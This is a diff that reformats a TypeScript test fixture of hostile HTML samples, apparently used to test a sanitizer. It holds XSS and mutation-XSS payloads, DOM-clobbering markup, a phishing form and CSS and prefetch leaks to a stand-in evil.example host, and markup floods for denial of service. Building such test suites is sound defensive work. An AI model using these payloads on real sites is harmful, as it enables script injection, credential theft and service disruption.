@@ -4,7 +4,10 @@ export interface HostileMarkup {
   html: string;
 }
 
-const link = (name: string, href: string): HostileMarkup => ({ name: `link: ${name}`, html: `<p>Read <a href="${href}">this</a> now</p>` });
+const link = (name: string, href: string): HostileMarkup => ({
+  name: `link: ${name}`,
+  html: `<p>Read <a href="${href}">this</a> now</p>`,
+});
 const part = (name: string, html: string): HostileMarkup => ({ name, html });
 
 const scripts: HostileMarkup[] = [
@@ -28,9 +31,18 @@ const handlers: HostileMarkup[] = [
   part('image that fails', '<img src=x onerror=pwned()>'),
   part('image with a slash for a space', '<img/src=x/onerror=pwned()>'),
   part('backquoted attribute', '<img src=`x` onerror=`pwned()`>'),
-  part('own picture with a handler', '<img src="/aem6/content/dam/hearthlight/help/pictures/open-windows.svg" onload="pwned()" alt="a">'),
-  part('quote that breaks out of alt', '<img alt="&quot; onerror=&quot;pwned()" src="/aem6/content/dam/hearthlight/help/pictures/open-windows.svg">'),
-  part('handlers on allowed elements', '<p onclick=pwned() onpointerover=pwned() onfocus=pwned() tabindex=0 autofocus>a</p>'),
+  part(
+    'own picture with a handler',
+    '<img src="/aem6/content/dam/hearthlight/help/pictures/open-windows.svg" onload="pwned()" alt="a">',
+  ),
+  part(
+    'quote that breaks out of alt',
+    '<img alt="&quot; onerror=&quot;pwned()" src="/aem6/content/dam/hearthlight/help/pictures/open-windows.svg">',
+  ),
+  part(
+    'handlers on allowed elements',
+    '<p onclick=pwned() onpointerover=pwned() onfocus=pwned() tabindex=0 autofocus>a</p>',
+  ),
   part('details that toggle', '<details open ontoggle=pwned()><summary>a</summary>b</details>'),
   part('animation handler', '<div style="animation:x 1s" onanimationstart=pwned()>a</div>'),
   part('content visibility', '<div oncontentvisibilityautostatechange=pwned() style="content-visibility:auto">a</div>'),
@@ -82,7 +94,10 @@ const links: HostileMarkup[] = [
   link('mailto with a body', 'mailto:a@evil.example?body=x&attach=/etc/passwd'),
   link('ftp', 'ftp://evil.example/'),
   link('fragment with markup', '#&quot;&gt;&lt;img src=x onerror=pwned()&gt;'),
-  part('ping and download', '<a href="https://www.gov.uk/" ping="https://evil.example/" download target="_top" rel="opener">a</a>'),
+  part(
+    'ping and download',
+    '<a href="https://www.gov.uk/" ping="https://evil.example/" download target="_top" rel="opener">a</a>',
+  ),
   part('area', '<map name=m><area shape=default href="javascript:pwned()"></map><img usemap="#m" src=x>'),
 ];
 
@@ -90,17 +105,35 @@ const foreign: HostileMarkup[] = [
   part('svg with onload', '<svg onload=pwned()></svg>'),
   part('svg script', '<svg><script>pwned()</script></svg>'),
   part('svg link', '<svg><a xlink:href="javascript:pwned()"><text y=20>a</text></a></svg>'),
-  part('svg animation of an address', '<svg><a><animate attributeName=href values=javascript:pwned() /><text>a</text></a></svg>'),
+  part(
+    'svg animation of an address',
+    '<svg><a><animate attributeName=href values=javascript:pwned() /><text>a</text></a></svg>',
+  ),
   part('svg set', '<svg><set attributeName=onmouseover to=pwned()></svg>'),
-  part('svg use', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwned() /></svg>#x"></svg>'),
-  part('foreignObject', '<svg><foreignObject><iframe srcdoc="<script>pwned()</script>"></iframe></foreignObject></svg>'),
+  part(
+    'svg use',
+    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=pwned() /></svg>#x"></svg>',
+  ),
+  part(
+    'foreignObject',
+    '<svg><foreignObject><iframe srcdoc="<script>pwned()</script>"></iframe></foreignObject></svg>',
+  ),
   part('html inside svg title', '<svg><title><img src=x onerror=pwned()></title></svg>'),
   part('style in svg', '<svg><style><img src=x onerror=pwned()></style></svg>'),
   part('mathml link', '<math><maction actiontype="statusline" xlink:href="javascript:pwned()">a</maction></math>'),
-  part('mathml text integration point', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">'),
-  part('mathml annotation', '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>'),
+  part(
+    'mathml text integration point',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
+  ),
+  part(
+    'mathml annotation',
+    '<math><annotation-xml encoding="text/html"><script>pwned()</script></annotation-xml></math>',
+  ),
   part('svg inside p inside desc', '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">'),
-  part('nested form swap', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">'),
+  part(
+    'nested form swap',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
+  ),
   part('svg in an img', '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=pwned()>" alt="a">'),
 ];
 
@@ -116,12 +149,21 @@ const containers: HostileMarkup[] = [
   part('title that closes', '<title></title><img src=x onerror=pwned()></title>'),
   part('textarea that closes', '<textarea></textarea><img src=x onerror=pwned()></textarea>'),
   part('xmp', '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>'),
-  part('noembed and noframes', '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed><noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>'),
+  part(
+    'noembed and noframes',
+    '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed><noframes><p title="</noframes><img src=x onerror=pwned()>"></noframes>',
+  ),
   part('plaintext', '<plaintext><img src=x onerror=pwned()>'),
   part('select with markup', '<select><option><img src=x onerror=pwned()></option><script>pwned()</script></select>'),
   part('frameset', '<frameset onload=pwned()><frame src="javascript:pwned()"></frameset>'),
-  part('video and its sources', '<video poster=https://evil.example/p onloadstart=pwned()><source src=x onerror=pwned()></video>'),
-  part('picture sources', '<picture><source srcset="https://evil.example/p.png"><img src=x srcset="https://evil.example/q.png" alt="a"></picture>'),
+  part(
+    'video and its sources',
+    '<video poster=https://evil.example/p onloadstart=pwned()><source src=x onerror=pwned()></video>',
+  ),
+  part(
+    'picture sources',
+    '<picture><source srcset="https://evil.example/p.png"><img src=x srcset="https://evil.example/q.png" alt="a"></picture>',
+  ),
   part('marquee', '<marquee onstart=pwned()>a</marquee>'),
   part('dialog', '<dialog open oncancel=pwned()><p>a</p></dialog>'),
   part('custom element', '<x-evil onclick=pwned() is="x-y">a</x-evil>'),
@@ -132,23 +174,44 @@ const takeovers: HostileMarkup[] = [
   part('meta refresh', '<meta http-equiv=refresh content="0;url=javascript:pwned()">'),
   part('meta policy', '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
   part('stylesheet', '<link rel=stylesheet href="https://evil.example/x.css">'),
-  part('prefetch', '<link rel=prefetch href="https://evil.example/?leak"><link rel=dns-prefetch href="//evil.example">'),
-  part('style element', '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>'),
+  part(
+    'prefetch',
+    '<link rel=prefetch href="https://evil.example/?leak"><link rel=dns-prefetch href="//evil.example">',
+  ),
+  part(
+    'style element',
+    '<style>@import "https://evil.example/x.css"; input[value^=a]{background:url(https://evil.example/a)}</style>',
+  ),
   part('style attribute', '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">a</p>'),
-  part('background attribute', '<table background="https://evil.example/x"><tr><td background="javascript:pwned()">a</td></tr></table>'),
-  part('form that phishes', '<form action="https://evil.example/"><label>Password <input type=password name=p autofocus></label><button>Sign in</button></form>'),
+  part(
+    'background attribute',
+    '<table background="https://evil.example/x"><tr><td background="javascript:pwned()">a</td></tr></table>',
+  ),
+  part(
+    'form that phishes',
+    '<form action="https://evil.example/"><label>Password <input type=password name=p autofocus></label><button>Sign in</button></form>',
+  ),
   part('form taken over from outside', '<input form=search formaction="https://evil.example/" type=submit value=Go>'),
-  part('clobbering names', '<a id=location name=location href="https://www.gov.uk/">a</a><form id=document name=cookie></form><img name=getElementById src=x>'),
+  part(
+    'clobbering names',
+    '<a id=location name=location href="https://www.gov.uk/">a</a><form id=document name=cookie></form><img name=getElementById src=x>',
+  ),
   part('clobbering headings', '<h2 id="main">a</h2><h2 id="__proto__">b</h2><h2 id="constructor">c</h2>'),
   part('classes of the page', '<div class="header visually-hidden">a</div><p class="error-summary">b</p>'),
   part('role and labels', '<div role="alert" aria-live="assertive" aria-label="Sign in again" contenteditable>a</div>'),
   part('slot and part', '<div slot=main part=x exportparts=x>a</div>'),
   part('microdata', '<div itemscope itemtype="https://evil.example/" itemid=x>a</div>'),
   part('picture elsewhere', '<img src="https://evil.example/track.gif" alt="a">'),
-  part('picture that climbs', '<img src="/aem6/content/dam/hearthlight/../../../logout.svg" alt="a"><img src="/aem6/content/dam/%2e%2e/%2e%2e/logout.svg" alt="a">'),
+  part(
+    'picture that climbs',
+    '<img src="/aem6/content/dam/hearthlight/../../../logout.svg" alt="a"><img src="/aem6/content/dam/%2e%2e/%2e%2e/logout.svg" alt="a">',
+  ),
   part('picture without scheme', '<img src="//evil.example/aem6/content/dam/hearthlight/x.svg" alt="a">'),
   part('picture with a query', '<img src="/aem6/content/dam/hearthlight/x.svg?to=https://evil.example" alt="a">'),
-  part('table that fosters', '<table><a href="javascript:pwned()"><tr><td><img src=x onerror=pwned()></td></tr></a></table>'),
+  part(
+    'table that fosters',
+    '<table><a href="javascript:pwned()"><tr><td><img src=x onerror=pwned()></td></tr></a></table>',
+  ),
   part('lone closing tags', '</p></div></body></html><script>pwned()</script><img src=x onerror=pwned()>'),
   part('half an entity', '<p>&ltscript&gtpwned()&lt/script&gt &#60;img src=x onerror=pwned()&#62;</p>'),
   part('attribute that never ends', '<p title="<img src=x onerror=pwned()>'),
@@ -156,7 +219,14 @@ const takeovers: HostileMarkup[] = [
   part('lone surrogates and controls', '<p>\ud800 \u202e\u0000\u0008 a</p>'),
 ];
 
-export const hostileMarkup: HostileMarkup[] = [...scripts, ...handlers, ...links, ...foreign, ...containers, ...takeovers];
+export const hostileMarkup: HostileMarkup[] = [
+  ...scripts,
+  ...handlers,
+  ...links,
+  ...foreign,
+  ...containers,
+  ...takeovers,
+];
 
 /** Small to send, dear to read: each must be refused or be done in bounded time. */
 export const hostileFloods: HostileMarkup[] = [
@@ -167,7 +237,10 @@ export const hostileFloods: HostileMarkup[] = [
   part('nested tables', '<table><tr><td>'.repeat(3_000)),
   part('nested templates', '<template>'.repeat(5_000)),
   part('nested drawings', '<svg>'.repeat(5_000)),
-  part('unclosed formatting before paragraphs', `<p>${Array.from({ length: 90 }, (_, n) => `<b id=x${n}>`).join('')}</p>${'<p>a'.repeat(20_000)}`),
+  part(
+    'unclosed formatting before paragraphs',
+    `<p>${Array.from({ length: 90 }, (_, n) => `<b id=x${n}>`).join('')}</p>${'<p>a'.repeat(20_000)}`,
+  ),
   part('formatting closed in the wrong order', '<a><b><i><u><s>'.repeat(2_000) + '</a></b></i></u></s>'.repeat(2_000)),
   part('links inside tables', '<a href=/><table>'.repeat(3_000)),
   part('100,000 paragraphs', '<p>a'.repeat(100_000)),
@@ -176,7 +249,10 @@ export const hostileFloods: HostileMarkup[] = [
   part('100,000 entities', `<p>${'&amp;&#x1F600;'.repeat(35_000)}</p>`),
   part('40,000 half-open tags', '<a '.repeat(40_000)),
   part('comment openers', '<!--'.repeat(100_000)),
-  part('addresses with many dots', `<a href="mailto:a@${'a.'.repeat(50_000)}">a</a><a href="https://${'a-'.repeat(50_000)}.example/">b</a>`),
+  part(
+    'addresses with many dots',
+    `<a href="mailto:a@${'a.'.repeat(50_000)}">a</a><a href="https://${'a-'.repeat(50_000)}.example/">b</a>`,
+  ),
   part('phone number of spaces', `<a href="tel:${' '.repeat(200_000)}">a</a>`),
   part('50,000 headings of one name', '<h2>a</h2>'.repeat(50_000)),
   part('9,000 headings of one name', '<h2>a</h2>'.repeat(9_000)),
